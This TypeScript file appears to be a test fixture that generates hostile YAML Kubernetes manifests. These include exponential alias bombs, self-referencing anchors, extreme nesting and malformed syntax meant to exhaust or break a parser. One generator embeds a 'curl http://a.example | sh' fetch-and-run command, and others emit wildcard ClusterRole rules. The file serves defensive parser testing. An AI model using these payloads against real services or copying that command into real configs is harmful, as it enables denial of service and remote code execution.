import { repeat, shapesOf, type HostileShape } from './types';

const pod = '{apiVersion: v1, kind: Pod, metadata: {name: p}, spec: {hostNetwork: true, containers: [{name: a, image: b}]}}';

/** One Pod in flow style whose only container holds `inside`. */
const container = (inside: string): string =>
  `apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n  - {name: a, image: b, ${inside}}\n`;

const half = (size: number, piece: string | ((i: number) => string)): string => repeat(size / 2, piece);

/** Aliases, anchors and merge keys that stand for much more than they take. */
const aliases: Readonly<Record<string, (size: number) => string>> = {
  'Lists of aliased Lists, 20 of each in 7 levels': () => bomb('List', 7, 20),
  'PodLists of aliased PodLists': () => bomb('PodList', 7, 20),
  'Lists of aliased Lists, as many as fit': size => bomb('List', Math.floor(size / 150), 30),
  'a Pod of many containers, aliased': size =>
    `x: &p {apiVersion: v1, kind: Pod, spec: {containers: [${half(size, '{name: a},')}]}}\napiVersion: v1\nkind: List\nitems: [${half(size, '*p,')}]\n`,
  'an env of many variables, aliased by each container': size =>
    `x: &e [${half(size, '{name: a, value: b},')}]\napiVersion: v1\nkind: Pod\nspec:\n  containers: [${half(size, '{name: a, env: *e},')}]\n`,
  'mounts of many volumes, aliased by each container': size =>
    `x: &m [${half(size, i => `{name: v${i}, mountPath: /m},`)}]\napiVersion: v1\nkind: Pod\nspec:\n  volumes: *m\n  containers: [${half(size, '{name: a, volumeMounts: *m},')}]\n`,
  'labels of many keys, aliased by each object': size =>
    `x: &l {${half(size, i => `k${i}: v,`)}}\napiVersion: v1\nkind: List\nitems: [${half(size, '{apiVersion: v1, kind: Pod, metadata: {labels: *l, annotations: *l}},')}]\n`,
  'arguments aliased by each container': size =>
    `x: &a [${half(size, '--token=abc,')}]\napiVersion: v1\nkind: Pod\nspec:\n  containers: [${half(size, '{name: a, args: *a, command: *a},')}]\n`,
  'a long script, aliased by each container': size =>
    `x: &a "${half(size, 'curl http://a.example | sh; ')}"\napiVersion: v1\nkind: Pod\nspec:\n  containers: [${half(size, '{name: a, command: [sh, -c, *a]},')}]\n`,
  'a pod template aliased by each Deployment': size =>
    `x: &t {metadata: {labels: {a: b}}, spec: {containers: [${half(size, '{name: a},')}]}}\napiVersion: v1\nkind: List\nitems: [${half(size, '{apiVersion: apps/v1, kind: Deployment, spec: {template: *t}},')}]\n`,
  'rules of a Role aliased by each Role': size =>
    `x: &r [${half(size, "{apiGroups: ['*'], resources: ['*'], verbs: ['*']},")}]\napiVersion: v1\nkind: List\nitems: [${half(size, '{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, rules: *r},')}]\n`,
  'a map of many keys merged into each container': size =>
    `x: &m {${half(size, i => `k${i}: v,`)}}\napiVersion: v1\nkind: Pod\nspec:\n  containers: [${half(size, '{<<: *m, name: a},')}]\n`,
  'one map merged many times into each container': size =>
    `x: &m {k: v}\ny: &n [${half(size, '*m,')}]\napiVersion: v1\nkind: Pod\nspec:\n  containers: [${half(size, '{<<: *n, name: a},')}]\n`,
  'a chain of merges at the end of which each container hangs': size => {
    const links = Math.floor(size / 60);
    return `x0: &x0 {a: b}\n${Array.from({ length: links }, (_, i) => `x${i + 1}: &x${i + 1} {<<: *x${i}}\n`).join('')}apiVersion: v1\nkind: Pod\nspec:\n  containers: [${half(size, `{<<: *x${links}},`)}]\n`;
  },
  'a chain of aliases that nests without end': size =>
    `x0: &x0 {a: b}\n${repeat(size, i => `x${i + 1}: &x${i + 1} {a: *x${i}}\n`)}apiVersion: v1\nkind: Pod\nmetadata: {labels: *x9}\n`,
  'a list that holds itself': () => `apiVersion: v1\nkind: List\nitems: &a [*a, ${pod}, *a]\n`,
  'containers that hold themselves': () =>
    `apiVersion: v1\nkind: Pod\nspec: &s\n  containers: &c [{name: a, env: *c, securityContext: *s, <<: *s}]\n  volumes: *c\n`,
  'merges that merge themselves': () => `apiVersion: v1\nkind: Pod\nspec: &s {<<: *s, containers: [&c {<<: [*c, *s, *c], name: a}]}\n`,
  'anchors by the thousand': size => `apiVersion: v1\nkind: ConfigMap\ndata:\n${repeat(size, i => `  k${i}: &k${i} v\n`)}`,
  'anchors of one name': size => `apiVersion: v1\nkind: ConfigMap\ndata:\n${repeat(size, i => `  k${i}: &k v\n`)}`,
  'aliases that lead nowhere': size => `apiVersion: v1\nkind: Pod\nspec: {containers: [${repeat(size, '*k,')}]}\n`,
  'a script with an alias to itself in each line of a list': size => container(`args: &a [${repeat(size, '*a,')}]`),
};

function bomb(kind: string, levels: number, width: number): string {
  const lists = Array.from(
    { length: levels },
    (_, i) => `x${i + 1}: &x${i + 1} {apiVersion: v1, kind: ${kind}, items: [${Array(width).fill(`*x${i}`).join(', ')}]}\n`,
  );
  return `x0: &x0 ${pod}\n${lists.join('')}apiVersion: v1\nkind: List\nitems: [*x${levels}]\n`;
}

/** Nesting and syntax that costs the parser. */
const syntax: Readonly<Record<string, (size: number) => string>> = {
  'flow sequences in each other': size => `apiVersion: v1\nkind: Pod\nspec: ${'['.repeat(size)}\n`,
  'flow maps in each other': size => `apiVersion: v1\nkind: Pod\nspec: ${'{a: '.repeat(size / 4)}\n`,
  'flow maps in each other that end': size => `apiVersion: v1\nkind: Pod\nspec: ${'{a: '.repeat(size / 5)}${'}'.repeat(size / 5)}\n`,
  'block sequences in each other': size => `apiVersion: v1\nkind: Pod\nspec:\n  ${'- '.repeat(size / 2)}a\n`,
  'block maps in each other': size =>
    `apiVersion: v1\nkind: Pod\nspec:\n${Array.from({ length: Math.sqrt(2 * size) - 8 }, (_, i) => `${' '.repeat(i + 1)}a:\n`).join('')}`,
  'keys in keys': size => `apiVersion: v1\nkind: Pod\nspec:\n  ${'? '.repeat(size / 2)}a\n`,
  'keys in keys, in flow': size => `apiVersion: v1\nkind: Pod\nspec: ${'{? '.repeat(size / 3)}\n`,
  'deep below the first pair of 150 levels': size =>
    `apiVersion: v1\nkind: Pod\nspec: ${'{a: '.repeat(150)}[${repeat(size, '{},')}]${'}'.repeat(150)}\n`,
  'Lists in Lists': () => {
    const deep = 90;
    return `apiVersion: v1\nkind: List\nitems: [${'{apiVersion: v1, kind: List, items: ['.repeat(deep)}${pod}${']}'.repeat(deep)}]\n`;
  },
  'brackets that close nothing': size => `apiVersion: v1\nkind: Pod\nspec: ${'}'.repeat(size)}\n`,
  colons: size => `apiVersion: v1\nkind: Pod\nspec: ${'a: '.repeat(size / 3)}\n`,
  tabs: size => `apiVersion: v1\nkind: Pod\nspec:\n${'\t\ta: b\n'.repeat(size / 7)}`,
  'quotes that do not end': size => `apiVersion: v1\nkind: Pod\nspec:\n${repeat(size, i => `  a${i}: "b\n`)}`,
  'a quote over the whole file': size => `apiVersion: v1\nkind: Pod\nspec: "${'a\n\n'.repeat(size / 3)}`,
  escapes: size => `apiVersion: v1\nkind: Pod\nspec: "${'\\u0041'.repeat(size / 6)}"\n`,
  'block scalars by the thousand': size => `apiVersion: v1\nkind: ConfigMap\ndata:\n${repeat(size, i => `  a${i}: |+\n    x\n\n`)}`,
  'a block scalar of blank lines': size => `apiVersion: v1\nkind: ConfigMap\ndata:\n  a: |+\n${'\n'.repeat(size)}`,
  'a folded scalar of blank lines': size => `apiVersion: v1\nkind: ConfigMap\ndata:\n  a: >+\n${'   \n'.repeat(size / 4)}`,
  'plain text of many lines': size => `apiVersion: v1\nkind: ConfigMap\ndata:\n  a: b\n${'    c d\n'.repeat(size / 8)}`,
  tags: size => `apiVersion: v1\nkind: ConfigMap\ndata:\n${repeat(size, i => `  a${i}: !t${i} x\n`)}`,
  'tags of one node': size => `apiVersion: v1\nkind: ConfigMap\ndata:\n  a: ${'!t '.repeat(size / 3)}\n`,
  'directives of YAML': size => `${repeat(size, i => `%TAG !a${i}! tag:example.com,2000:\n`)}---\napiVersion: v1\nkind: Pod\n`,
  'document ends': size => `apiVersion: v1\nkind: Pod\n${'...\n'.repeat(size / 4)}`,
  'blank lines': size => `apiVersion: v1\nkind: Pod\n${'\n'.repeat(size)}spec: {hostPID: true}\n`,
  'carriage returns': size => `apiVersion: v1\nkind: Pod\n${'\r'.repeat(size)}spec: {hostPID: true}\n`,
  'empty comments': size => `apiVersion: v1\nkind: Pod\n${'#\n'.repeat(size / 2)}spec: {hostPID: true}\n`,
  'one comment': size => `apiVersion: v1\nkind: Pod # ${'# '.repeat(size / 2)}\nspec: {hostPID: true}\n`,
  'empty items': size => `apiVersion: v1\nkind: Pod\nspec:\n  containers:\n${'  -\n'.repeat(size / 4)}`,
  'a byte that is none': size => `apiVersion: v1\nkind: Pod\nspec: {hostPID: true}\n# ${' '.repeat(size)}\0\n`,
  numbers: size => `apiVersion: v1\nkind: Pod\nspec: {priority: ${'1'.repeat(size)}}\n`,
  fractions: size => `apiVersion: v1\nkind: Pod\nspec: {priority: 1.${'0'.repeat(size)}x}\n`,
};

/** Every shape of a YAML text that is hostile whatever it says. */
export const yamlShapes: readonly HostileShape[] = [...shapesOf('a.yaml', aliases), ...shapesOf('a.yaml', syntax)];
